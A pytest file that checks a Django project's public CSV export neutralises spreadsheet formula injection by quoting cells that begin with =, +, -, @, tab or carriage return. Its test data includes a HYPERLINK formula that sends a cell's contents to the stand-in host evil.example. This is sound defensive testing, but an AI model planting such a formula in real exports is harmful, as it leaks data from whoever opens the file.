"""The public CSV never hands a spreadsheet a formula (OWASP CSV injection)."""

import csv
import io

import pytest

from tests.factories import make_project

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'


def rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_title_that_would_be_a_formula_is_quoted_and_other_cells_are_untouched(client):
    make_project(title=FORMULA, status="published", slug="formule", description="-5 °C à Iakoutsk")
    exported = {row["title_fr"]: row for row in rows(client.get("/api/projects.csv"))}
    row = exported["'" + FORMULA]
    assert row["title_ru"] == "'" + FORMULA + " (ru)"
    assert row["description_fr"] == "'-5 °C à Iakoutsk"
    assert [title for title in exported if title.startswith("'")] == ["'" + FORMULA]  # only this one


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_character_that_starts_a_formula_is_neutralised(client, start):
    make_project(title=f"{start}1+1 cmd", status="published", slug="formule")
    titles = {row["title_fr"] for row in rows(client.get("/api/projects.csv"))}
    assert f"'{start}1+1 cmd" in titles and f"{start}1+1 cmd" not in titles
